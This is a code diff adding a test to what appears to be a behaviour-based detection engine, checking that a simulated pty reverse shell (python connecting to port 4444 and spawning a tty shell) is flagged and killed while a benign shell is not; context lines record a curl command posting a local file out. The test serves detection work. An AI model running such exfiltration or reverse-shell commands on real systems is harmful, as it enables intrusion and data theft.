@@ -139,3 +139,29 @@ def test_exfil_upload_severity_by_file_class(tmp_path: Path) -> None:
     r.exec(204, 100, "/usr/bin/curl", ["curl", "--data-urlencode", "a=b@/etc/x", "http://h"])
     got = of(r.run(tmp_path), "exfil_upload")
     assert [(f.pid, f.severity) for f in got] == [(200, "high"), (201, "medium"), (202, "medium")]
+
+
+def test_pty_shell_gone_before_the_probe(tmp_path: Path) -> None:
+    """pty.spawn reverse shell whose session is over before the /proc look-up (the peer
+    sent ``id; exit`` at once): the kernel's character-device fd 0 of a shell reading its
+    commands decides; a ``sh -c`` of a networked app with /dev/null stdin does not."""
+    from bastion.detect.behavior import Probes
+    from bastion.detect.engine import Engine as E
+
+    r = Rec().exec(200, 100, "/usr/bin/python3.11", ["python3", "-c", "x"])
+    r.connect(200, "203.0.113.7", 4444)
+    r.exec(201, 200, "/usr/bin/dash", ["/bin/sh"], stdin="tty", stdout="tty")
+    r.exec(300, 100, "/usr/bin/python3.11", ["python3", "app.py"]).connect(300, "10.0.0.3", 5432)
+    r.exec(301, 300, "/usr/bin/dash", ["/bin/sh", "-c", "ls"], stdin="tty", stdout="pipe:[9]")
+    p = tmp_path / "rec.jsonl"
+    p.write_text("".join(json.dumps(x) + "\n" for x in r.lines))
+    procs, trust = ProcessTable(), RecordedTrust()
+    engine = E(behavior_rules(trust=trust, probes=Probes(stdio=lambda pid: None)))
+    ctx = RuleContext(procs)
+    found: list[Finding] = []
+    for ev in read_all(p):
+        trust.learn(ev)
+        procs.update(ev)
+        found += engine.evaluate(ev, ctx)
+    got = of(found, "pty_socket_shell")
+    assert [(f.pid, f.action) for f in got] == [(200, "kill-tree")]
